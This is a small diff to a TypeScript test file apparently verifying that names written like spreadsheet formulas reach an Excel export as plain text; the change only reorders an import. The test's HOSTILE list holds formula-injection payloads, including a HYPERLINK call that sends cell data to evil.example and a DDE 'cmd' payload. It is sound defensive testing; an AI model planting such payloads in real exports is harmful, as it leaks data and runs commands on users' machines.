@@ -1,9 +1,9 @@
 // Insider suite, exports: a name written like a formula (a store named `=HYPERLINK(...)`) reaches the
 // Excel export as text, never as a formula the spreadsheet would evaluate on opening.
 import { describe, expect, it } from 'vitest';
+import { readWorkbook } from '../../../tests/support/xlsx.js';
 import type { Json } from '../../src/platform/exports/csv-rows.js';
 import { xlsxStream } from '../../src/platform/exports/xlsx-rows.js';
-import { readWorkbook } from '../../../tests/support/xlsx.js';
 
 const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', '+1+cmd|/C calc!A0', '-2+3', '@SUM(1)', '=1+1'];
 
